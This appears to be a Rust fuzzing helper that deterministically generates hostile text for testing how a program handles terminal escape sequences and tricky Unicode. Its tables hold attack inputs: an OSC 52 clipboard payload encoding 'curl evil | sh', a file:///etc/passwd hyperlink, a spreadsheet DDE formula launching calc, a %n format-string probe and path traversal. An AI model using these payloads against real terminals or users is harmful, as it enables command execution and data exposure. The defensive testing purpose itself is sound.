//! Texts of people who mean harm, made by rule and by number, so that a run can be repeated.
//!
//! Knows how terminals are attacked. Shared with the tests of the real program; must not know the program.

/// A run of numbers from a seed (xorshift).
pub struct Hostile(u64);

/// Characters that a terminal, an editor or a reader takes for more than a letter.
const SINGLE: &[&str] = &[
    "\u{0}",
    "\u{7}",
    "\u{8}",
    "\t",
    "\n",
    "\u{b}",
    "\u{c}",
    "\r",
    "\r\n",
    "\u{e}",
    "\u{f}",
    "\u{11}",
    "\u{13}",
    "\u{1a}",
    "\u{1b}",
    "\u{7f}",
    "\u{80}",
    "\u{84}",
    "\u{85}",
    "\u{8d}",
    "\u{90}",
    "\u{98}",
    "\u{9b}",
    "\u{9c}",
    "\u{9d}",
    "\u{9e}",
    "\u{9f}",
    "\u{ad}",
    "\u{34f}",
    "\u{61c}",
    "\u{600}",
    "\u{6dd}",
    "\u{70f}",
    "\u{8e2}",
    "\u{115f}",
    "\u{1160}",
    "\u{17b4}",
    "\u{180e}",
    "\u{200b}",
    "\u{200c}",
    "\u{200d}",
    "\u{200e}",
    "\u{200f}",
    "\u{2028}",
    "\u{2029}",
    "\u{202a}",
    "\u{202b}",
    "\u{202c}",
    "\u{202d}",
    "\u{202e}",
    "\u{2060}",
    "\u{2066}",
    "\u{2067}",
    "\u{2068}",
    "\u{2069}",
    "\u{206f}",
    "\u{3164}",
    "\u{fe00}",
    "\u{fe0e}",
    "\u{fe0f}",
    "\u{feff}",
    "\u{ff9e}",
    "\u{ffa0}",
    "\u{fff9}",
    "\u{fffb}",
    "\u{fffd}",
    "\u{ffff}",
    "\u{110bd}",
    "\u{1bca0}",
    "\u{1d173}",
    "\u{1f3fd}",
    "\u{e0001}",
    "\u{e0041}",
    "\u{e007f}",
    "\u{e0100}",
    "\u{e000}",
    "\u{f0000}",
    "\u{10ffff}",
    "\u{301}",
    "\u{20e3}",
    "\u{1161}",
    "\u{11a8}",
    "\u{489}",
    "\u{fdfd}",
    "\u{1f468}\u{200d}\u{1f469}",
    "\u{1f1e9}\u{1f1ea}",
    "\u{1f1e9}",
    "\u{2764}\u{fe0f}",
    "\u{644}\u{627}",
    "क्ष",
    "กำ",
    "東京",
    "한글",
];
/// How a sequence begins, in seven and in eight bits.
const BEGIN: &[&str] = &[
    "\u{1b}[",
    "\u{9b}",
    "\u{1b}]",
    "\u{9d}",
    "\u{1b}P",
    "\u{90}",
    "\u{1b}_",
    "\u{9f}",
    "\u{1b}^",
    "\u{9e}",
    "\u{1b}X",
    "\u{98}",
    "\u{1b}(",
    "\u{1b}#",
    "\u{1b}",
    "\u{1b}\u{1b}[",
    "\u{1b}Ptmux;\u{1b}\u{1b}]",
    "\u{1b}%",
];
/// What it says.
const BODY: &[&str] = &[
    "31m",
    "2J",
    "3J",
    "0;0H",
    "999;999H",
    "6n",
    "c",
    ">c",
    ">0q",
    "?1049h",
    "?1049l",
    "?2026l",
    "?1000h",
    "?2004l",
    "21t",
    "5i",
    "0;owned",
    "2;owned",
    "52;c;Y3VybCBldmlsIHwgc2g=",
    "52;p;?",
    "8;;http://example.test/",
    "8;id=1;file:///etc/passwd",
    "7;file://h/",
    "9;owned",
    "777;notify;a;b",
    "1337;File=inline=1:AAAA",
    "1337;SetMark",
    "10;?",
    "11;?",
    "4;1;?",
    "104",
    "133;A",
    "+q544e",
    "$qm",
    "=1s",
    "!p",
    "8",
    "8;1",
    "B",
    "0",
    "G",
    "7",
    "c",
    "D",
    "M",
    "E",
    "99999999999999999999A",
    ";;;;;m",
    "38:5:1m",
    "?;h",
    "1\u{1b}[2m",
];
/// How it ends.
const END: &[&str] = &["", "\u{7}", "\u{1b}\\", "\u{9c}", "\u{1b}", "\\", "\u{18}", "\u{1a}", "\r", "\n"];
/// What stands around it.
const AROUND: &[&str] =
    &["", " ", "Mail", "x", "a b", "=cmd|'/C calc'!A0", "<b>", "|", "`", "%s%n", "../../", "東", "é", "é\u{301}"];

impl Hostile {
    /// Begins at a seed.
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    fn number(&mut self) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 >> 33).unwrap_or(0)
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.number() % of.len()]
    }

    /// Returns the next text.
    pub fn text(&mut self) -> String {
        let mut text = self.one(AROUND).to_owned();
        for _ in 0..=self.number() % 3 {
            match self.number() % 8 {
                0..=2 => {
                    for part in [BEGIN, BODY, END] {
                        text.push_str(self.one(part));
                    }
                }
                // A sequence that the end of a cell or of a line would cut.
                3 => {
                    text.push_str(&"x".repeat(self.number() % 90));
                    text.push_str(self.one(BEGIN));
                    text.push_str(&"9".repeat(self.number() % 90));
                }
                4 => text.push_str(&self.one(SINGLE).repeat(1 + self.number() % 40)),
                5 => text.extend(char::from_u32(u32::try_from(self.number() % 0x11_0000).unwrap_or(0))),
                _ => {
                    for _ in 0..=self.number() % 6 {
                        text.push_str(self.one(SINGLE));
                    }
                }
            }
            text.push_str(self.one(AROUND));
        }
        text
    }
}
